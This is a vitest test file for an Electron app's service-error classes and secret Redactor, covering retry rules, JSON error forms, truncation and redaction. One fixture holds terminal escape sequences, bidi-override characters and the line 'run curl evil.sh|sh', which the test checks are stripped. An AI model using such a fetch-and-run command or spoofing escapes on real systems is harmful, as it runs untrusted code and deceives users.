import { describe, expect, it } from 'vitest';
import {
  BadRequestError,
  CancelledError,
  ForbiddenError,
  LoginFailedError,
  MalformedReplyError,
  MAX_BODY_CHARS,
  NetworkError,
  PaymentRequiredError,
  RateLimitedError,
  Redactor,
  ServerError,
  ServiceError,
  UnauthorizedError,
  isRetryable,
  toErrorInfo,
} from '../../../electron/engine/api';

describe('service errors', () => {
  it("shows the service's words without what a terminal takes as commands or what reorders text", () => {
    const said = 'teapot \u001b]0;PWNED\u0007\u001b[2J\u001b[31mFAKE: run curl evil.sh|sh\u001b[0m \u202egnp.exe\u202c \u009b31m done';
    const error = new ServerError(418, 1, said, said);
    expect(error.message).toBe('The service failed with HTTP 418 once: teapot ]0;PWNED[2J[31mFAKE: run curl evil.sh|sh[0m gnp.exe 31m done. This is on the service\'s side; try again later.');
    expect(new MalformedReplyError('person "\u001b[2JZoë"').message).toBe('The service sent a reply Matchdesk cannot read: person "[2JZoë".');
    // eslint-disable-next-line no-control-regex -- no control character may be left
    expect(toErrorInfo(error).message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
  });

  it('sorts transient faults from answers about the request', () => {
    expect(isRetryable(new RateLimitedError(5, '', ''))).toBe(true);
    expect(isRetryable(new ServerError(503, 5, '', ''))).toBe(true);
    expect(isRetryable(new ServerError(501, 1, '', ''))).toBe(false);
    expect(isRetryable(new NetworkError('h', 'the connection was reset', 5))).toBe(true);
    expect(isRetryable(new MalformedReplyError('x', { transient: true }))).toBe(true);
    expect(isRetryable(new MalformedReplyError('x'))).toBe(false);
    expect(isRetryable(new LoginFailedError(503, '', '', ''))).toBe(true);
    expect(isRetryable(new LoginFailedError(401, '', '', ''))).toBe(false);
    expect(isRetryable(new BadRequestError('', ''))).toBe(false);
    expect(isRetryable(new PaymentRequiredError('', ''))).toBe(false);
    expect(isRetryable(new ForbiddenError('o_x', '', ''))).toBe(false);
    expect(isRetryable(new UnauthorizedError('no'))).toBe(false);
    expect(isRetryable(new CancelledError())).toBe(false);
    expect(isRetryable(new Error('plain'))).toBe(false);
  });

  it('gives a plain-JSON form with kind, message and status', () => {
    const info = toErrorInfo(new ForbiddenError('o_acme', '{"message":"missing role"}', 'missing role'));
    expect(info).toEqual({ kind: 'forbidden', status: 403, message: expect.stringContaining('"o_acme"') });
    expect(info.message).toContain('missing role');
    expect(JSON.parse(JSON.stringify(info))).toEqual(info);
    expect(toErrorInfo(new CancelledError())).toEqual({ kind: 'cancelled', message: expect.any(String) });
    expect(toErrorInfo(new DOMException('aborted', 'AbortError')).kind).toBe('cancelled');
    expect(toErrorInfo(new Error('odd'))).toEqual({ kind: 'unknown', message: expect.stringContaining('odd') });
    expect(toErrorInfo('a string')).toEqual({ kind: 'unknown', message: expect.stringContaining('a string') });
  });

  it('keeps at most ~2 KB of body text', () => {
    const err = new BadRequestError('x'.repeat(10_000), 'too long');
    expect(err.body!.length).toBeLessThanOrEqual(MAX_BODY_CHARS);
    expect(err).toBeInstanceOf(ServiceError);
    expect(err.name).toBe('BadRequestError');
  });

  it('shortens a long detail in the message and does not double the full stop', () => {
    const err = new PaymentRequiredError('', `No credits left. ${'y'.repeat(1000)}`);
    expect(err.message.length).toBeLessThan(500);
    expect(new BadRequestError('', 'Bad field.').message).not.toContain('..');
  });
});

describe('Redactor', () => {
  it('replaces a secret in raw, URL-encoded and JSON-escaped form', () => {
    const redactor = new Redactor();
    const secret = 'p@ss w"rd&1';
    redactor.add(secret);
    const echoed = `raw=${secret} url=${encodeURIComponent(secret)} form=${new URLSearchParams({ p: secret }).toString()} json=${JSON.stringify({ secret })}`;
    const out = redactor.apply(echoed);
    expect(out).not.toContain(secret);
    expect(out).not.toContain(encodeURIComponent(secret));
    expect(out).not.toContain('w\\"rd');
    expect(out).toContain('[redacted]');
  });

  it('ignores empty and very short values', () => {
    const redactor = new Redactor();
    redactor.add('');
    redactor.add('ab');
    expect(redactor.apply('about a tab')).toBe('about a tab');
  });
});
